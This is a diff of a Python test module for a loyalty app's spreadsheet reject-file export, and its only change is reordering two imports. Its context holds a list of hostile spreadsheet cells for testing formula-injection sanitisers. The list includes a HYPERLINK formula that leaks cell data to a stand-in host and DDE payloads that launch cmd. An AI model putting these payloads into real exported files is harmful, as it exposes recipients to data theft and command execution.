@@ -18,14 +18,14 @@ from types import SimpleNamespace
 import openpyxl
 import pytest
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
-from test_spreadsheet_make import write_csv
-from test_spreadsheet_sync import MEMBER_HEADERS
 
 from loyalty_desktop.core.textsafe import FORMULA_TRIGGERS, csv_cell, printable
 from loyalty_desktop.sources.spreadsheet.rejects import RowReject, write_rejects_csv
 from loyalty_desktop.sources.spreadsheet.values import Reason
 from loyalty_desktop.store.rejects import RejectedRow, write_rejected_csv
 from loyalty_emulators.klaviyo.server import DEMO_KEY, KlaviyoSandbox
+from test_spreadsheet_make import write_csv
+from test_spreadsheet_sync import MEMBER_HEADERS
 
 HOSTILE = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "-", "+", "@", "-x", "=\x1b[31mred"]
